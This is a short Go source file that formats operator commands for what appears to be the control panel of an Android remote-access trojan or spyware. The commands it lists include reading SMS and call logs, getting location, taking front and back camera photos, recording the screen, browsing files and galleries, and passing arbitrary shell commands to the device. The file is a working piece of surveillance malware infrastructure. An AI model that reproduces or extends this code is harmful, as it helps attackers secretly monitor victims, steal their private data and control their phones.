// Package command translates operator commands to the agent wire format
// and dispatches them to the upstream agent-command channel.
package command

import "fmt"

// Format translates a symbolic command name and its parameters into the
// wire string understood by the agent-command channel. Unrecognized
// names pass through unchanged so that commands added on the agent side
// keep working without a formatter update.
func Format(name string, params map[string]string) string {
	switch name {
	case "run":
		return fmt.Sprintf("run %s", params["package"])
	case "open":
		return fmt.Sprintf("open %s", params["url"])
	case "toast":
		return fmt.Sprintf("toast %s %s", params["action"], params["text"])
	case "shell_cmd":
		return params["cmd"]
	case "shell_cd":
		return fmt.Sprintf("cd %s", params["path"])
	case "shell_ls":
		return "ls"
	case "shell_exit":
		return "exit_shell"
	case "shell", "getsms", "getcalllogs", "list_app", "get_location",
		"takefrontpic", "takebackpic", "flashon", "flashoff",
		"notifikasi", "deviceinfo", "gallery", "screen_recorder",
		"filemanager":
		return name
	default:
		return name
	}
}
